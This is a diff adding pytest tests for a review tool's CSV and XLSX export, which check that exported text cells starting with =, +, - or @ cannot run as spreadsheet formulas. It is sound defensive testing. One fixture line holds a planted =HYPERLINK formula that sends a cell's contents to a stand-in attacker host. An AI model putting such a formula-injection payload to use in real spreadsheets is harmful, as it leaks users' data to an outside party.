@@ -13,8 +13,17 @@ import pytest
 
 from crossfoot.errors import StoreError
 from crossfoot.model import Envelope, Record
-from crossfoot.review.edits import apply_repair, set_status
-from crossfoot.review.export import export_items, fixture_name, promote, write_csv, write_jsonl, write_xlsx
+from crossfoot.review.edits import apply_repair, save_field, set_status
+from crossfoot.review.export import (
+    csv_safe,
+    export_items,
+    fixture_name,
+    iter_export_items,
+    promote,
+    write_csv,
+    write_jsonl,
+    write_xlsx,
+)
 from crossfoot.review.queue import queue
 from crossfoot.review.store import Store
 from crossfoot.review.view import form_view
@@ -124,3 +133,87 @@ def test_promote_refuses_unapproved_records_and_existing_fixtures(loaded: Store,
     with pytest.raises(StoreError, match="exists"):
         promote(loaded, form_id, tmp_path, by="bob")
     promote(loaded, form_id, tmp_path, by="bob", overwrite=True)
+
+
+PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def plant(store: Store) -> int:
+    """A document whose project name is a spreadsheet formula; its form id."""
+    row = queue(store)[0]
+    save_field(store, row.form_id, "project_name", PLANTED, version=row.version, reviewer="ann")
+    return row.form_id
+
+
+def test_xlsx_text_is_never_a_formula(loaded: Store, tmp_path: Path) -> None:
+    """Item 21: printed text such as "=100%" and a planted =HYPERLINK stay
+    text cells; numbers stay numbers."""
+    from openpyxl import load_workbook
+
+    plant(loaded)
+    target = tmp_path / "out.xlsx"
+    write_xlsx(export_items(loaded), target)
+    book = load_workbook(target)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    leading = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
+    assert PLANTED in [c.value for c in leading]
+    assert len(leading) > 1, "the samples themselves print targets starting with '=' or '-'"
+    assert any(c.data_type == "n" for c in cells)
+
+
+def test_csv_neutralises_formula_text_but_not_numbers(loaded: Store) -> None:
+    """Item 21: OWASP's advice: a text cell starting with = + - @ gets a
+    leading quote; a negative number stays a number."""
+    form_id = plant(loaded)
+    buffer = io.StringIO()
+    write_csv(export_items(loaded), buffer)
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    planted = next(r for r in rows if r["form_id"] == str(form_id))
+    assert planted["project_name"] == "'" + PLANTED
+    for row in rows:
+        for key, value in row.items():
+            if value.startswith(("=", "+", "@")):
+                pytest.fail(f"{key}: {value!r} would run as a formula")
+            if value.startswith("-"):
+                Decimal(value)  # only numbers may start with a minus
+    assert csv_safe("funding.total.executed", "-5") == "-5"
+    assert csv_safe("grade", "-5") == "'-5"
+    assert csv_safe("grade", "@SUM(A1)") == "'@SUM(A1)"
+
+
+def test_export_reads_no_document_text(loaded: Store) -> None:
+    """Item 23: the export streams forms without loading each document's
+    whole text (what made 2,200 forms take 1 GB)."""
+    items = iter_export_items(loaded, "all")
+    first = next(items)
+    assert "lines" not in first.document.__dict__
+    assert sum(1 for _ in items) + 1 == len(export_items(loaded))
+
+
+def test_a_corrupt_stored_record_is_named_not_a_traceback(loaded: Store, db_url: str) -> None:
+    """Item 23: an export that fails half-way says which form, as a StoreError."""
+    from sqlalchemy import create_engine, text
+
+    engine = create_engine(db_url)
+    with engine.begin() as conn:
+        document = conn.execute(text("SELECT min(id) FROM documents")).scalar()
+        form = conn.execute(
+            text(
+                "INSERT INTO forms (document_id, form_index, form_count, backend, title, first_line, last_line, "
+                "status, version, record_number, created_at, updated_at) VALUES (:d, 99, 1, 'rules', 'x', 1, 2, "
+                "'clean', 1, 1, '2025-01-01 00:00:00+00:00', '2025-01-01 00:00:00+00:00') RETURNING id"
+            ),
+            {"d": document},
+        ).scalar()
+        conn.execute(
+            text(
+                "INSERT INTO record_versions (form_id, number, origin, record, provenance, meta, created_at, "
+                "created_by) VALUES (:f, 1, 'extraction', '{\"indicators\": 5}', '{}', '{}', "
+                "'2025-01-01 00:00:00+00:00', 'someone')"
+            ),
+            {"f": form},
+        )
+    engine.dispose()
+    with pytest.raises(StoreError, match=f"form {form}: its stored record is not a valid record"):
+        export_items(loaded)
